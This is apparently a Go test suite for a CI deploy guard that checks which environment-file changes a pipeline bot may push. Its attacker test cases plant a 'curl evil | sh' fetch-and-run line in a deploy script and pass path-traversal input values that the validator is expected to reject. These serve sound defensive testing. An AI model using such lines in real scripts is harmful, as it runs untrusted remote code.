package deploy

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	gh "github.com/google/go-github/v60/github"

	"github.com/cicd-excellence/actions/internal/action"
	"github.com/cicd-excellence/actions/internal/testkit/githubtest"
)

const (
	botLogin   = "pipeline[bot]"
	botToken   = "ghs_pipelinebot0123456789"
	humanLogin = "alice"
	humanToken = "ghp_alice0123456789abcdef"
	// rollbackLogin opens rollback PRs (on bot branches, through
	// open-infra-pr) that a human approves; it is not in the bot input.
	rollbackLogin = "rollback[bot]"
	rollbackToken = "ghs_rollback0123456789"
)

// guardFixture is a local GitHub with app repositories of real history and
// an infra repository, plus a human's clone of the infra repository.
type guardFixture struct {
	t     *testing.T
	srv   *githubtest.Server
	bot   *gh.Client
	rb    *gh.Client // the rollback identity
	infra string     // name of the infra repo under acme
	// headRepo is the PR's head repository in the payload (default acme/<infra>).
	headRepo string
	human    string // the human's clone
	// app commits: c1 → c2 → c3 on main, h1 on hotfixes/1 from c1, f1 on an
	// unmerged branch from c2; w1 → w2 on acme/web's main.
	c1, c2, c3, h1, f1, w1, w2 string
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func newGuardFixture(t *testing.T) *guardFixture {
	t.Helper()
	srv := githubtest.New(t)
	srv.AddToken(botToken, botLogin, githubtest.Write)
	srv.AddToken(humanToken, humanLogin, githubtest.Write)
	f := &guardFixture{t: t, srv: srv}
	var err error
	f.bot, err = gh.NewClient(nil).WithAuthToken(botToken).WithEnterpriseURLs(srv.APIURL(), srv.APIURL())
	must(t, err)
	srv.AddToken(rollbackToken, rollbackLogin, githubtest.Write)
	f.rb, err = gh.NewClient(nil).WithAuthToken(rollbackToken).WithEnterpriseURLs(srv.APIURL(), srv.APIURL())
	must(t, err)
	for _, name := range []string{"api", "web"} {
		must(t, srv.CreateRepo(githubtest.RepoConfig{Owner: "acme", Name: name}))
	}
	commit := func(repo, branch, content string) string {
		sha, err := srv.CommitFiles("acme", repo, branch, map[string]string{"main.go": content}, content)
		must(t, err)
		return sha
	}
	f.c1 = commit("api", "main", "1")
	f.c2 = commit("api", "main", "2")
	must(t, srv.SetRef("acme", "api", "refs/heads/feature", f.c2))
	f.f1 = commit("api", "feature", "feature")
	f.c3 = commit("api", "main", "3")
	must(t, srv.SetRef("acme", "api", "refs/heads/hotfixes/1", f.c1))
	f.h1 = commit("api", "hotfixes/1", "1 fixed")
	f.w1 = commit("web", "main", "w1")
	f.w2 = commit("web", "main", "w2")
	return f
}

func apiEnv(tag string) string {
	return `{
  "api": {
    "tag": "` + tag + `",
    "replicas": 2
  }
}
`
}

// newInfra creates acme/<name> with files on main and clones it as the human.
func (f *guardFixture) newInfra(name string, files map[string]string) string {
	f.t.Helper()
	must(f.t, f.srv.CreateRepo(githubtest.RepoConfig{Owner: "acme", Name: name}))
	base, err := f.srv.CommitFiles("acme", name, "main", files, "infra")
	must(f.t, err)
	f.infra = name
	f.human = filepath.Join(f.t.TempDir(), "human")
	f.gitIn("", "clone", "-q", f.srv.CloneURL("acme", name, humanToken), f.human)
	return base
}

func (f *guardFixture) gitIn(dir string, args ...string) string {
	f.t.Helper()
	if dir != "" {
		args = append([]string{"-C", dir}, args...)
	}
	cmd := exec.Command("git", append([]string{"-c", "commit.gpgsign=false", "-c", "init.defaultBranch=main"}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_TERMINAL_PROMPT=0")
	out, err := cmd.CombinedOutput()
	if err != nil {
		f.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// botCommit commits files onto branch through the contents API with the
// bot's token, as open-infra-pr does: GitHub signs these commits.
func (f *guardFixture) botCommit(branch string, files map[string]string) string {
	f.t.Helper()
	return f.apiCommit(f.bot, branch, files)
}

// apiCommit commits files onto branch through the contents API as client.
func (f *guardFixture) apiCommit(client *gh.Client, branch string, files map[string]string) string {
	f.t.Helper()
	ctx := context.Background()
	if _, _, err := client.Git.GetRef(ctx, "acme", f.infra, "heads/"+branch); err != nil {
		main, _, err := client.Git.GetRef(ctx, "acme", f.infra, "heads/main")
		must(f.t, err)
		_, _, err = client.Git.CreateRef(ctx, "acme", f.infra, &gh.Reference{Ref: gh.String("refs/heads/" + branch), Object: main.Object})
		must(f.t, err)
	}
	var sha string
	for _, name := range slices.Sorted(maps.Keys(files)) {
		opts := &gh.RepositoryContentFileOptions{Message: gh.String("bump " + name), Content: []byte(files[name]), Branch: gh.String(branch)}
		if cur, _, _, err := client.Repositories.GetContents(ctx, "acme", f.infra, name, &gh.RepositoryContentGetOptions{Ref: branch}); err == nil {
			opts.SHA = cur.SHA
		}
		res, _, err := client.Repositories.UpdateFile(ctx, "acme", f.infra, name, opts)
		must(f.t, err)
		sha = res.GetSHA()
	}
	return sha
}

// push commits files onto branch in the human's clone with the given git
// author and pushes it: nothing GitHub signs.
func (f *guardFixture) push(branch, author, email string, files map[string]string) string {
	f.t.Helper()
	f.gitIn(f.human, "fetch", "-q", "origin")
	start := "origin/main"
	if f.gitIn(f.human, "ls-remote", "origin", "refs/heads/"+branch) != "" {
		start = "origin/" + branch
	}
	f.gitIn(f.human, "checkout", "-q", "-B", branch, start)
	for name, content := range files {
		p := filepath.Join(f.human, name)
		must(f.t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(f.t, os.WriteFile(p, []byte(content), 0o644))
	}
	f.gitIn(f.human, "add", "-A")
	f.gitIn(f.human, "-c", "user.name="+author, "-c", "user.email="+email, "commit", "-q", "-m", "change")
	f.gitIn(f.human, "push", "-q", "origin", "HEAD:refs/heads/"+branch)
	return f.gitIn(f.human, "rev-parse", "HEAD")
}

func (f *guardFixture) pushAsHuman(branch string, files map[string]string) string {
	return f.push(branch, humanLogin, fmt.Sprintf("%d+%s@users.noreply.github.com", f.srv.UserID(humanLogin), humanLogin), files)
}

// openPR opens a pull request of branch by author and returns its number.
func (f *guardFixture) openPR(branch, author string) int {
	f.t.Helper()
	n, err := f.srv.OpenPullRequest("acme", f.infra, githubtest.NewPullRequest{Head: branch, Base: "main", Title: branch, User: author})
	must(f.t, err)
	return n
}

// validate checks out head in a fresh clone and runs validate on a
// pull_request event for PR number.
func (f *guardFixture) validate(number int, base, headRef, head, author string, env ...string) (string, error) {
	f.t.Helper()
	dir := filepath.Join(f.t.TempDir(), "checkout")
	f.gitIn("", "clone", "-q", f.srv.CloneURL("acme", f.infra, githubtest.DefaultToken), dir)
	f.gitIn(dir, "remote", "remove", "origin") // the token was in its URL
	f.gitIn(dir, "checkout", "-q", "--detach", head)
	ev := filepath.Join(f.t.TempDir(), "event.json")
	headRepo := f.headRepo
	if headRepo == "" {
		headRepo = "acme/" + f.infra
	}
	body := fmt.Sprintf(`{"pull_request":{"number":%d,"head":{"ref":%q,"sha":%q,"repo":{"full_name":%q}},"base":{"ref":"main","sha":%q},"user":{"login":%q}},"repository":{"full_name":"acme/%s","default_branch":"main"}}`,
		number, headRef, head, headRepo, base, author, f.infra)
	must(f.t, os.WriteFile(ev, []byte(body), 0o644))
	_, log, err := run(f.t, dir, append([]string{"INPUT_MODE=validate", "GITHUB_EVENT_NAME=pull_request", "GITHUB_EVENT_PATH=" + ev,
		"GITHUB_REPOSITORY=acme/" + f.infra, "GITHUB_API_URL=" + f.srv.APIURL(), "INPUT_GITHUB_TOKEN=" + githubtest.DefaultToken,
		"INPUT_BOT=" + botLogin}, env...)...)
	return log, err
}

// TestValidateBotGuard: every rule of the bot guard and of version moves,
// each with a passing case, a failing case and what an attacker with write
// access would try.
func TestValidateBotGuard(t *testing.T) {
	f := newGuardFixture(t)
	base := f.newInfra("infra", map[string]string{
		"envs/dev.json": apiEnv(f.c2), "envs/staging.json": apiEnv(f.c1), "envs/prod.json": apiEnv(f.c1),
		"envs/qa.json": apiEnv(f.c1), "scripts/deploy.sh": "#!/bin/sh\necho deploy\n",
	})
	botEmail := fmt.Sprintf("%d+%s@users.noreply.github.com", f.srv.UserID(botLogin), botLogin)
	held := func(tag, reason string) string {
		return strings.Replace(apiEnv(tag), `"replicas": 2`, `"replicas": 2,`+"\n    \"hold\": \""+reason+"\"", 1)
	}
	tests := []struct {
		name, branch, author string
		head                 func(branch string) string
		approve              string                     // login approving the PR after head
		after                func(branch string) string // commits after the approval
		env                  []string
		want                 []string // substrings of the log; none: validate passes
	}{
		// The bot moving dev forward is what the guard lets through.
		{name: "bot moves dev forward", branch: "cicd-excellence/dev/a", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/dev.json": apiEnv(f.c3)}) }},
		{name: "bot sets a hotfix version in a bot environment", branch: "cicd-excellence/qa/a", author: botLogin, env: []string{"INPUT_BOT_ENVIRONMENTS=dev, qa"},
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/qa.json": apiEnv(f.h1)}) }},
		// Commits: only the bot's, signed by GitHub.
		{name: "attacker: a human pushes onto the bot's branch", branch: "cicd-excellence/dev/b", author: botLogin,
			head: func(b string) string {
				f.botCommit(b, map[string]string{"envs/dev.json": apiEnv(f.c3)})
				return f.pushAsHuman(b, map[string]string{"scripts/deploy.sh": "#!/bin/sh\ncurl evil | sh\n"})
			},
			want: []string{"::error file=envs::bot: commit ", "is authored by alice, not by pipeline[bot]", "::error file=scripts/deploy.sh::bot: a PR by pipeline[bot] may change only environment files"}},
		{name: "attacker: a commit authored as the bot in git, unsigned", branch: "cicd-excellence/dev/c", author: botLogin,
			head: func(b string) string {
				return f.push(b, botLogin, botEmail, map[string]string{"envs/dev.json": apiEnv(f.c3)})
			},
			want: []string{"names pipeline[bot] as its author but GitHub has not verified its signature (unsigned)"}},
		{name: "attacker: a human opens a PR from a branch named like the bot's", branch: "cicd-excellence/dev/d", author: humanLogin,
			head: func(b string) string { return f.pushAsHuman(b, map[string]string{"envs/dev.json": apiEnv(f.c3)}) },
			want: []string{"is authored by alice, not by pipeline[bot]: a human pushed to the bot's branch"}},
		{name: "a commit with no GitHub account", branch: "cicd-excellence/dev/e", author: botLogin,
			head: func(b string) string {
				return f.push(b, "someone", "someone@example.com", map[string]string{"envs/dev.json": apiEnv(f.c3)})
			},
			want: []string{`is authored by "someone" (no GitHub account)`}},
		// Environments.
		{name: "attacker: a bot PR changing prod", branch: "cicd-excellence/prod/a", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/prod.json": apiEnv(f.c2)}) },
			want: []string{"::error file=envs/prod.json::bot: a PR by pipeline[bot] may move only dev without a review (bot-environments); it changes prod"}},
		{name: "a bot promotion to staging approved by a collaborator", branch: "cicd-excellence/staging/a", author: botLogin, approve: humanLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/staging.json": apiEnv(f.c2)}) }},
		{name: "a bot promotion to staging approved by the bot itself", branch: "cicd-excellence/staging/b", author: botLogin, approve: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/staging.json": apiEnv(f.c2)}) },
			want: []string{"it changes staging: a collaborator must approve this head commit"}},
		{name: "attacker: the bot pushes after the approval", branch: "cicd-excellence/staging/c", author: botLogin, approve: humanLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/staging.json": apiEnv(f.c2)}) },
			after: func(b string) string {
				return f.botCommit(b, map[string]string{"envs/staging.json": strings.Replace(apiEnv(f.c2), "2\n", "2 \n", 1)})
			},
			want: []string{"it changes staging: a collaborator must approve this head commit"}},
		{name: "a rollback by another identity on a bot branch, approved", branch: "cicd-excellence/dev/rollback", author: rollbackLogin, approve: humanLogin,
			head: func(b string) string {
				return f.apiCommit(f.rb, b, map[string]string{"envs/dev.json": held(f.c1, "INC-2: c2 breaks login")})
			}},
		{name: "a rollback by another identity on a bot branch, not approved yet", branch: "cicd-excellence/dev/rollback2", author: rollbackLogin,
			head: func(b string) string {
				return f.apiCommit(f.rb, b, map[string]string{"envs/dev.json": held(f.c1, "INC-2: c2 breaks login")})
			},
			want: []string{"is authored by rollback[bot], not by pipeline[bot]", "may not add, remove or change a \"hold\"", "the bot never moves a version backwards"}},
		{name: "an approved bot-branch PR still follows the human rules", branch: "cicd-excellence/dev/rollback3", author: rollbackLogin, approve: humanLogin,
			head: func(b string) string { return f.apiCommit(f.rb, b, map[string]string{"envs/dev.json": apiEnv(f.c1)}) },
			want: []string{"rollback: api.tag = " + f.c1[:7] + " is not a descendant of " + f.c2[:7]}},
		{name: "a human on a bot branch, approved by another collaborator", branch: "cicd-excellence/dev/reviewed", author: humanLogin, approve: "bob",
			head: func(b string) string {
				return f.pushAsHuman(b, map[string]string{"envs/dev.json": apiEnv(f.c3), "scripts/deploy.sh": "#!/bin/sh\necho reviewed\n"})
			}},
		{name: "a human on a bot branch approving their own PR", branch: "cicd-excellence/dev/self", author: humanLogin, approve: humanLogin,
			head: func(b string) string { return f.pushAsHuman(b, map[string]string{"envs/dev.json": apiEnv(f.c3)}) },
			want: []string{"is authored by alice, not by pipeline[bot]"}},
		{name: "the bot's login on any branch", branch: "bump", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/qa.json": apiEnv(f.h1)}) },
			want: []string{"may move only dev without a review (bot-environments); it changes qa"}},
		// Backwards.
		{name: "attacker: a bot PR downgrading", branch: "cicd-excellence/dev/f", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/dev.json": apiEnv(f.c1)}) },
			want: []string{"::error file=envs/dev.json,line=3::bot: api.tag = " + f.c1[:7] + " is not a descendant of " + f.c2[:7] + ", the version it replaces (acme/api: behind): the bot never moves a version backwards"}},
		{name: "a bot PR setting a hotfix that is not newer", branch: "cicd-excellence/dev/g", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/dev.json": apiEnv(f.h1)}) },
			want: []string{"(acme/api: diverged): the bot never moves a version backwards"}},
		// Content: version values only.
		{name: "attacker: a bot PR changing a script", branch: "cicd-excellence/dev/h", author: botLogin,
			head: func(b string) string {
				return f.botCommit(b, map[string]string{"envs/dev.json": apiEnv(f.c3), "scripts/deploy.sh": "#!/bin/sh\ncurl evil | sh\n"})
			},
			want: []string{"::error file=scripts/deploy.sh::bot: a PR by pipeline[bot] may change only environment files under envs; it changes scripts/deploy.sh"}},
		{name: "a bot PR changing another key", branch: "cicd-excellence/dev/i", author: botLogin,
			head: func(b string) string {
				return f.botCommit(b, map[string]string{"envs/dev.json": strings.Replace(apiEnv(f.c3), `"replicas": 2`, `"replicas": 20`, 1)})
			},
			want: []string{"::error file=envs/dev.json,line=4::bot: a PR by pipeline[bot] may change only version values (**.tag); it changes api.replicas"}},
		{name: "a bot PR adding a hold", branch: "cicd-excellence/dev/j", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/dev.json": held(f.c3, "mine")}) },
			want: []string{"::error file=envs/dev.json,line=5::bot: a PR by pipeline[bot] may not add, remove or change a \"hold\""}},
		{name: "a bot PR adding a version key", branch: "cicd-excellence/dev/k", author: botLogin,
			head: func(b string) string {
				return f.botCommit(b, map[string]string{"envs/dev.json": strings.Replace(apiEnv(f.c2), `"replicas": 2`, `"replicas": 2, "x": {"tag": "`+f.c3+`"}`, 1)})
			},
			want: []string{"may not add the version key api.x.tag"}},
		{name: "a bot PR adding an environment", branch: "cicd-excellence/dev/l", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/dev2.json": apiEnv(f.c3)}) },
			want: []string{"::error file=envs/dev2.json::bot: a PR by pipeline[bot] may not add or delete an environment file"}},
		{name: "a bot PR to a commit of an unmerged branch", branch: "cicd-excellence/dev/m", author: botLogin,
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/dev.json": apiEnv(f.f1)}) },
			want: []string{"reachable: api.tag = " + f.f1[:7] + " is not on acme/api's default branch or a hotfixes/* branch"}},
		{name: "the bot input is empty", branch: "cicd-excellence/dev/n", author: botLogin, env: []string{"INPUT_BOT="},
			head: func(b string) string { return f.botCommit(b, map[string]string{"envs/dev.json": apiEnv(f.c3)}) },
			want: []string{"the bot input names no login"}},
		// Human PRs are reviewed: other content, hotfixes anywhere, rollbacks with a hold.
		{name: "human promotes dev to staging and edits a script", branch: "promote", author: humanLogin,
			head: func(b string) string {
				return f.pushAsHuman(b, map[string]string{"envs/staging.json": apiEnv(f.c2), "scripts/deploy.sh": "#!/bin/sh\necho v2\n"})
			}},
		{name: "human ships a hotfix straight to prod", branch: "hotfix", author: humanLogin,
			head: func(b string) string { return f.pushAsHuman(b, map[string]string{"envs/prod.json": apiEnv(f.h1)}) }},
		{name: "human rolls dev back with a hold", branch: "rollback", author: humanLogin,
			head: func(b string) string {
				return f.pushAsHuman(b, map[string]string{"envs/dev.json": held(f.c1, "INC-1: c2 breaks login")})
			}},
		{name: "human rolls dev back without a hold", branch: "rollback2", author: humanLogin,
			head: func(b string) string { return f.pushAsHuman(b, map[string]string{"envs/dev.json": apiEnv(f.c1)}) },
			want: []string{"::error file=envs/dev.json,line=3::rollback: api.tag = " + f.c1[:7] + " is not a descendant of " + f.c2[:7] + `, the version it replaces (acme/api: behind): a rollback must set "hold": "<reason>" in the object holding api.tag in the same PR`}},
		{name: "human skips staging", branch: "skip", author: humanLogin,
			head: func(b string) string { return f.pushAsHuman(b, map[string]string{"envs/prod.json": apiEnv(f.c2)}) },
			want: []string{"promotion: api.tag = " + f.c2[:7] + " was never in staging"}},
		{name: "human sets a commit of an unmerged branch", branch: "feature", author: humanLogin,
			head: func(b string) string { return f.pushAsHuman(b, map[string]string{"envs/dev.json": apiEnv(f.f1)}) },
			want: []string{"is not on acme/api's default branch or a hotfixes/* branch"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f.t = t
			head := tc.head(tc.branch)
			n := f.openPR(tc.branch, tc.author)
			if tc.approve != "" {
				must(t, f.srv.Approve("acme", f.infra, n, tc.approve))
			}
			if tc.after != nil {
				head = tc.after(tc.branch)
			}
			log, err := f.validate(n, base, tc.branch, head, tc.author, append([]string{"INPUT_APP_REPO=acme/api"}, tc.env...)...)
			if len(tc.want) == 0 {
				if err != nil {
					t.Fatalf("validate failed: %v\n%s", err, log)
				}
				return
			}
			if err == nil {
				t.Fatalf("validate passed, want %q\n%s", tc.want, log)
			}
			for _, w := range tc.want {
				if !strings.Contains(log, w) {
					t.Errorf("log lacks %q\n%s", w, log)
				}
			}
		})
	}
}

// TestValidateBotGuardPayload: the guard fails closed on what the event
// payload says.
func TestValidateBotGuardPayload(t *testing.T) {
	f := newGuardFixture(t)
	base := f.newInfra("infra", map[string]string{"envs/dev.json": apiEnv(f.c2)})
	head := f.botCommit("cicd-excellence/dev/a", map[string]string{"envs/dev.json": apiEnv(f.c3)})
	n := f.openPR("cicd-excellence/dev/a", botLogin)
	tests := []struct {
		name, base, headRepo, want string
	}{
		{"the bot's own PR", base, "", ""},
		{"attacker: a PR from a fork", base, "mallory/infra", "bot: the PR comes from mallory/infra; the bot's PRs come from branches of acme/infra itself"},
		{"a payload without the base SHA", "", "", "lacks full base and head SHAs"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			g := *f
			g.t, g.headRepo = t, tc.headRepo
			log, err := g.validate(n, tc.base, "cicd-excellence/dev/a", head, botLogin, "INPUT_APP_REPO=acme/api")
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("validate failed: %v\n%s", err, log)
			case tc.want != "" && (err == nil || !strings.Contains(log+err.Error(), tc.want)):
				t.Fatalf("err = %v, want %q\n%s", err, tc.want, log)
			}
		})
	}
}

// TestValidateServices: with a services file, each key's version is checked
// against its own app repository.
func TestValidateServices(t *testing.T) {
	f := newGuardFixture(t)
	two := func(api, web string) string {
		return fmt.Sprintf("{\n  \"api\": {\"tag\": %q},\n  \"web\": {\"tag\": %q}\n}\n", api, web)
	}
	services := `{"default": "{owner}/{name}", "keys": {"api.tag": "acme/api"}}`
	base := f.newInfra("infra2", map[string]string{"envs/dev.json": two(f.c1, f.w1), "envs/prod.json": two(f.c1, f.w1), "services.json": services})
	tests := []struct {
		name   string
		branch string
		files  map[string]string
		bot    bool
		want   []string
	}{
		{name: "each key from its own repository", branch: "s1", files: map[string]string{"envs/dev.json": two(f.c2, f.w2)}},
		{name: "the bot moves two services", branch: "cicd-excellence/dev/s2", bot: true, files: map[string]string{"envs/dev.json": two(f.c3, f.w2)}},
		{name: "a version from the other service's repository", branch: "s3", files: map[string]string{"envs/dev.json": two(f.w2, f.w2)},
			want: []string{"::error file=envs/dev.json,line=2::exists: api.tag = " + f.w2 + " is not a commit of acme/api"}},
		{name: "a key no rule maps", branch: "s4", files: map[string]string{"envs/dev.json": strings.Replace(two(f.c1, f.w1), `"web"`, `"shop": {"cart": {"tag": "`+f.c1+`"}}, "web"`, 1)},
			want: []string{`services: no app repository for "shop.cart.tag": the default rule maps only <name>.<field> keys`}},
		{name: "a broken services file", branch: "s5", files: map[string]string{"services.json": "{\n  \"keys\": {},\n  \"repos\": {}\n}\n"},
			want: []string{`::error file=services.json,line=3::services: line 3: unknown field "repos"`}},
		{name: "a services file elsewhere", branch: "s6", files: map[string]string{"ops/services.json": `{"keys": {"api.tag": "acme/api"}}`, "envs/dev.json": two(f.c2, f.w2)},
			want: []string{`services: no app repository for "web.tag": add it to "keys"`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f.t = t
			var head, author string
			if tc.bot {
				head, author = f.botCommit(tc.branch, tc.files), botLogin
			} else {
				head, author = f.pushAsHuman(tc.branch, tc.files), humanLogin
			}
			n := f.openPR(tc.branch, author)
			var env []string
			if tc.branch == "s6" {
				env = append(env, "INPUT_SERVICES_FILE=ops/services.json")
			}
			// app-repo is ignored while a services file exists.
			log, err := f.validate(n, base, tc.branch, head, author, append(env, "INPUT_APP_REPO=acme/web")...)
			if len(tc.want) == 0 {
				if err != nil {
					t.Fatalf("validate failed: %v\n%s", err, log)
				}
				return
			}
			if err == nil {
				t.Fatalf("validate passed, want %q\n%s", tc.want, log)
			}
			for _, w := range tc.want {
				if !strings.Contains(log, w) {
					t.Errorf("log lacks %q\n%s", w, log)
				}
			}
		})
	}
}

// TestValidateInputs: bad inputs are refused naming the input.
func TestValidateInputs(t *testing.T) {
	r := newRepo(t)
	r.commit(map[string]*string{"envs/dev.json": s(apiEnv(a1))})
	tests := []struct{ name, input, value string }{
		{"bot environment with a capital", "bot-environments", "Dev"},
		{"bot environment escaping", "bot-environments", "../prod"},
		{"services file outside the repo", "services-file", "../services.json"},
		{"services file absolute", "services-file", "/etc/services.json"},
		{"hotfix prefix without a slash", "hotfix-prefix", "hotfixes"},
		{"hotfix prefix with a space", "hotfix-prefix", "hot fixes/"},
		{"promotion chain", "promotion-chain", "dev, Prod"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, _, err := run(t, r.dir, "INPUT_MODE=validate", "INPUT_"+strings.ToUpper(strings.ReplaceAll(tc.input, "-", "_"))+"="+tc.value)
			var ie *action.InputError
			if !errors.As(err, &ie) || ie.Input != tc.input || strings.Contains(err.Error(), "\n") {
				t.Fatalf("err = %v, want a one-line error naming %q", err, tc.input)
			}
		})
	}
}

// TestValidateCrowd: validate runs of a good and of an attacker's bot PR,
// many at once against the same GitHub and in any order, each give their
// own verdict.
func TestValidateCrowd(t *testing.T) {
	f := newGuardFixture(t)
	base := f.newInfra("infra", map[string]string{"envs/dev.json": apiEnv(f.c2), "envs/staging.json": apiEnv(f.c1)})
	good := f.botCommit("cicd-excellence/dev/good", map[string]string{"envs/dev.json": apiEnv(f.c3)})
	goodPR := f.openPR("cicd-excellence/dev/good", botLogin)
	bad := f.push("cicd-excellence/dev/bad", botLogin, fmt.Sprintf("%d+%s@users.noreply.github.com", f.srv.UserID(botLogin), botLogin),
		map[string]string{"envs/dev.json": apiEnv(f.c3)})
	badPR := f.openPR("cicd-excellence/dev/bad", botLogin)
	for i := range 6 {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			t.Parallel()
			g := *f
			g.t = t
			if i%2 == 0 {
				if log, err := g.validate(goodPR, base, "cicd-excellence/dev/good", good, botLogin, "INPUT_APP_REPO=acme/api"); err != nil {
					t.Errorf("the bot's own PR failed: %v\n%s", err, log)
				}
				return
			}
			log, err := g.validate(badPR, base, "cicd-excellence/dev/bad", bad, botLogin, "INPUT_APP_REPO=acme/api")
			if err == nil || !strings.Contains(log, "GitHub has not verified its signature") {
				t.Errorf("the forged commit passed: %v\n%s", err, log)
			}
		})
	}
}

func TestJSONDiff(t *testing.T) {
	tests := []struct {
		name, a, b string
		want       string // paths joined with ", "
	}{
		{"equal, formatting aside", `{"a": {"tag": "x", "n": 1}}`, "{\"a\":{\"n\":1,\n\"tag\":\"x\"}}", ""},
		{"a changed value", `{"a": {"tag": "x"}}`, `{"a": {"tag": "y"}}`, "a.tag"},
		{"a number written differently", `{"n": 1}`, `{"n": 1.0}`, "n"},
		{"a key added with null", `{"a": {}}`, `{"a": {"hold": null}}`, "a.hold"},
		{"an object added", `{}`, `{"b": {"tag": "x", "c": {"d": 1}}}`, "b.c.d, b.tag"},
		{"an object removed", `{"b": {"tag": "x"}}`, `{}`, "b.tag"},
		{"an empty object added", `{}`, `{"b": {}}`, "b"},
		{"an array changed", `{"l": [1, 2]}`, `{"l": [2, 1]}`, "l"},
		{"a type changed", `{"a": {"tag": "x"}}`, `{"a": "x"}`, "a"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var a, b any
			must(t, decodeJSON([]byte(tc.a), &a))
			must(t, decodeJSON([]byte(tc.b), &b))
			var diffs [][]string
			jsonDiff(a, b, nil, &diffs)
			var got []string
			for _, d := range diffs {
				got = append(got, strings.Join(d, "."))
			}
			if strings.Join(got, ", ") != tc.want {
				t.Errorf("diff = %q, want %q", got, tc.want)
			}
		})
	}
}
